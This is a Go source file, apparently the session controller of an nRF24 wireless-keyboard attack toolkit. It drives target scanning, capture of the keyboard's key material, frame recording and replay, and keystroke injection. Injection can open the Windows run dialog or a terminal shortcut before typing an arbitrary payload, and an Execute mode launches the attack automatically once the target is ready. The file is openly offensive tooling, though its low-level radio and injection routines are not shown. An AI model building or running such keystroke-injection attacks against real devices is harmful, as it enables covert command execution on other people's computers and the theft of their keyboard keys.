// Package attack drives one attack session: it locates the target, captures
// key material and runs recording, replay and keystroke injection on request.
//
// A Session owns the radio. All radio access happens on the goroutine calling
// Run (or Step); other goroutines Submit commands and read the accessors.
package attack

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"github.com/Einstein2150/nrf24-playset/helper"
	"github.com/Einstein2150/nrf24-playset/hid"
	"github.com/Einstein2150/nrf24-playset/keyboard"
	"github.com/Einstein2150/nrf24-playset/nrf24"
	"github.com/Einstein2150/nrf24-playset/replay"
	"github.com/Einstein2150/nrf24-playset/sched"
	"github.com/Einstein2150/nrf24-playset/sniff"
	"github.com/google/uuid"
	"github.com/sirupsen/logrus"
)

const (
	DefaultIdleSleep   = 50 * time.Millisecond
	DefaultPingRounds  = 3
	RunDialogPause     = 100 * time.Millisecond
	RunDialogCombo     = "GUI_RIGHT+R"
	commandQueueLength = 16
)

// Config configures a session. Family is required, everything else is
// optional.
type Config struct {
	Family *keyboard.Family
	// Layout defaults to "us".
	Layout *hid.Layout
	// Address of the target in air order, nil to scan for one.
	Address *nrf24.Address
	// Material skips discovery when set.
	Material []byte
	// Channels overrides the family channel plan.
	Channels []int
	// Confirm is asked before a scanned device is taken as target, nil
	// takes the first one found.
	Confirm func(res sniff.Result) bool

	Payload string
	// RunDialog opens the run dialog (GUI+R) before typing the payload.
	RunDialog bool
	// Combo is a key combination like "CTRL+ALT+T" sent before the payload,
	// it replaces the run dialog shortcut.
	Combo string
	// Execute runs one attack as soon as the codec is ready, then Run returns.
	Execute bool

	PingRounds  int
	ScanTimeout time.Duration
	IdleSleep   time.Duration
}

type Session struct {
	id    string
	radio nrf24.Radio
	clk   sched.Clock
	cfg   Config
	log   *logrus.Entry

	family   *keyboard.Family
	channels []int
	codec    keyboard.Codec
	combo    *hid.KeyEvent
	hb       *replay.Heartbeat
	queue    replay.Queue

	executed bool

	cmds chan Command
	done chan struct{}

	// mu guards the fields below. The session goroutine writes them under
	// mu and may read them without it.
	mu        sync.Mutex
	address   *nrf24.Address
	material  []byte
	lastErr   error
	state     State
	cancelOp  context.CancelFunc
	aborting  bool
	payload   string
	observers []func(from, to State)
}

func NewSession(radio nrf24.Radio, clk sched.Clock, cfg Config, log *logrus.Entry) (*Session, error) {
	if cfg.Family == nil {
		return nil, fmt.Errorf("%w: no device family selected", helper.ErrUnsupportedDevice)
	}
	if log == nil {
		log = logrus.NewEntry(logrus.StandardLogger())
	}
	if cfg.Layout == nil {
		l, err := hid.LayoutByName("us")
		if err != nil {
			return nil, err
		}
		cfg.Layout = l
	}
	if cfg.IdleSleep <= 0 {
		cfg.IdleSleep = DefaultIdleSleep
	}
	if cfg.PingRounds <= 0 {
		cfg.PingRounds = DefaultPingRounds
	}

	s := &Session{
		id:       uuid.New().String(),
		radio:    radio,
		clk:      clk,
		cfg:      cfg,
		family:   cfg.Family,
		channels: cfg.Family.Channels,
		payload:  cfg.Payload,
		cmds:     make(chan Command, commandQueueLength),
		done:     make(chan struct{}),
	}
	s.log = log.WithFields(logrus.Fields{"session": s.id, "device": s.family.Name})

	if len(cfg.Channels) > 0 {
		for _, ch := range cfg.Channels {
			if ch < 0 || ch > nrf24.MaxChannel {
				return nil, fmt.Errorf("%w: channel %d out of range 0..%d", helper.ErrProtocolFormat, ch, nrf24.MaxChannel)
			}
		}
		s.channels = cfg.Channels
	}

	if s.family.CanAttack() {
		codec, err := s.family.Codec(cfg.Layout)
		if err != nil {
			return nil, err
		}
		s.codec = codec
	} else if cfg.Execute {
		return nil, fmt.Errorf("%w: %s cannot inject keystrokes", helper.ErrUnsupportedDevice, s.family.Name)
	}

	combo := cfg.Combo
	if combo == "" && cfg.RunDialog {
		combo = RunDialogCombo
	}
	if combo != "" {
		mod, key, err := hid.ParseCombo(combo)
		if err != nil {
			return nil, err
		}
		s.combo = &hid.KeyEvent{Mod: mod, Key: key}
	}

	if cfg.Material != nil {
		if len(cfg.Material) != s.family.MaterialLen {
			return nil, fmt.Errorf("%w: key of %d bytes, %s needs %d", helper.ErrProtocolFormat, len(cfg.Material), s.family.Name, s.family.MaterialLen)
		}
		s.material = append([]byte{}, cfg.Material...)
	}
	if cfg.Address != nil {
		a := *cfg.Address
		s.address = &a
	}

	s.hb = replay.HeartbeatFor(radio, clk, s.family, s.log)
	return s, nil
}

func (s *Session) ID() string {
	return s.id
}

func (s *Session) State() State {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.state
}

// OnStateChange registers fn to be called on every state transition. fn runs
// on the session goroutine. Register before Run.
func (s *Session) OnStateChange(fn func(from, to State)) {
	s.mu.Lock()
	s.observers = append(s.observers, fn)
	s.mu.Unlock()
}

func (s *Session) setState(to State) {
	s.mu.Lock()
	from := s.state
	s.state = to
	observers := s.observers
	s.mu.Unlock()

	if from == to {
		return
	}
	s.log.WithFields(logrus.Fields{"from": from.String(), "to": to.String()}).Info("state change")
	for _, fn := range observers {
		fn(from, to)
	}
}

// Submit queues a command for the session loop. Abort and quit also cancel
// the running sub-operation right away.
func (s *Session) Submit(cmd Command) {
	if cmd == CMD_ABORT || cmd == CMD_QUIT {
		s.mu.Lock()
		if s.cancelOp != nil {
			s.cancelOp()
		} else {
			// no operation running yet, cancel the next one on start
			s.aborting = true
		}
		s.mu.Unlock()
	}
	select {
	case s.cmds <- cmd:
	case <-s.done:
	}
}

// SetPayload replaces the text typed by the next attack.
func (s *Session) SetPayload(payload string) {
	s.mu.Lock()
	s.payload = payload
	s.mu.Unlock()
}

func (s *Session) currentPayload() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.payload
}

// Address returns the target address once known.
func (s *Session) Address() (nrf24.Address, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.address == nil {
		return nrf24.Address{}, false
	}
	return *s.address, true
}

// Material returns a copy of the key material, nil if none was captured.
func (s *Session) Material() []byte {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.material == nil {
		return nil
	}
	return append([]byte{}, s.material...)
}

// Recorded is the number of frames in the record queue.
func (s *Session) Recorded() int {
	return s.queue.Len()
}

// LastError is the error of the most recent failed sub-operation.
func (s *Session) LastError() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.lastErr
}

func (s *Session) setLastErr(err error) {
	s.mu.Lock()
	s.lastErr = err
	s.mu.Unlock()
}

func (s *Session) ready() bool {
	return s.codec != nil && (!s.family.NeedsMaterial() || s.material != nil)
}

// opContext derives the context of a cancellable sub-operation. The returned
// func must be called when the operation ends.
func (s *Session) opContext(parent context.Context) (context.Context, func()) {
	ctx, cancel := context.WithCancel(parent)
	s.mu.Lock()
	s.cancelOp = cancel
	if s.aborting {
		s.aborting = false
		cancel()
	}
	s.mu.Unlock()
	return ctx, func() {
		s.mu.Lock()
		s.cancelOp = nil
		s.mu.Unlock()
		cancel()
	}
}

func (s *Session) fail(op string, err error) {
	if errors.Is(err, context.Canceled) {
		s.log.WithField("op", op).Warn("aborted")
	} else {
		s.log.WithError(err).WithField("op", op).Error("operation failed")
		s.setLastErr(err)
	}
	s.setState(IDLE)
}

// Run performs the startup sequence and then loops until CMD_QUIT, ctx is
// done or, with Execute set, the attack has run.
func (s *Session) Run(ctx context.Context) error {
	defer close(s.done)

	s.log.WithFields(logrus.Fields{
		"channels": len(s.channels),
		"layout":   s.cfg.Layout.Name,
		"key":      keyboard.Redact(s.material),
	}).Info("session started")

	if err := s.Start(ctx); err != nil {
		return err
	}
	for {
		if ctx.Err() != nil {
			return nil
		}
		quit, err := s.Step(ctx)
		if err != nil || quit {
			return err
		}
	}
}

// Start picks the initial state: an address plus key material goes straight
// to IDLE, an address alone is located by ping and then captured, nothing at
// all starts a scan.
func (s *Session) Start(ctx context.Context) error {
	switch {
	case s.address != nil && (s.material != nil || !s.family.NeedsMaterial()):
		s.locate(ctx)
		if s.family.RecordAfterScan {
			s.startRecording()
		} else {
			s.setState(IDLE)
		}
	case s.address != nil:
		if s.locate(ctx) {
			s.setState(DISCOVERING)
		} else {
			s.setState(SCANNING)
		}
	default:
		s.setState(SCANNING)
	}
	return nil
}

// Step runs one loop iteration: at most one command, then one unit of work
// for the current state.
func (s *Session) Step(ctx context.Context) (quit bool, err error) {
	select {
	case cmd := <-s.cmds:
		if s.handle(cmd) {
			return true, nil
		}
	default:
	}

	switch s.State() {
	case IDLE:
		if s.cfg.Execute {
			if s.executed {
				return true, s.lastErr
			}
			if !s.ready() {
				if s.lastErr != nil {
					return true, s.lastErr
				}
				return true, fmt.Errorf("%w: no key material for %s", helper.ErrProtocolFormat, s.family.Name)
			}
			s.executed = true
			s.setState(ATTACKING)
			return false, nil
		}
		s.idle()
	case SCANNING:
		s.runScan(ctx)
	case DISCOVERING:
		s.runDiscovery(ctx)
	case RECORDING:
		s.recordStep()
	case REPLAYING:
		s.runReplay(ctx)
	case ATTACKING:
		s.runAttack(ctx)
	}
	return false, nil
}

func (s *Session) handle(cmd Command) (quit bool) {
	state := s.State()
	if cmd == CMD_ABORT || cmd == CMD_QUIT {
		s.mu.Lock()
		s.aborting = false
		s.mu.Unlock()
	}
	s.log.WithFields(logrus.Fields{"command": cmd.String(), "state": state.String()}).Debug("command")

	switch cmd {
	case CMD_QUIT:
		return true
	case CMD_ABORT:
		s.setState(IDLE)
	case CMD_SCAN:
		if state == IDLE {
			s.mu.Lock()
			s.address = nil
			s.material = nil
			s.mu.Unlock()
			s.setState(SCANNING)
		}
	case CMD_RECORD:
		switch state {
		case IDLE:
			s.startRecording()
		case RECORDING:
			s.log.WithField("frames", s.queue.Len()).Info("recording stopped")
			s.setState(IDLE)
		}
	case CMD_REPLAY:
		if state != IDLE {
			break
		}
		if s.queue.Len() == 0 {
			s.log.Warn("nothing recorded to replay")
			break
		}
		s.setState(REPLAYING)
	case CMD_ATTACK:
		if state != IDLE {
			break
		}
		if s.codec == nil {
			s.log.WithError(fmt.Errorf("%w: %s supports replay only", helper.ErrUnsupportedDevice, s.family.Name)).Warn("attack refused")
			break
		}
		if !s.ready() || s.address == nil {
			s.log.Warn("attack refused, device or key material not known yet")
			break
		}
		s.setState(ATTACKING)
	}
	return false
}
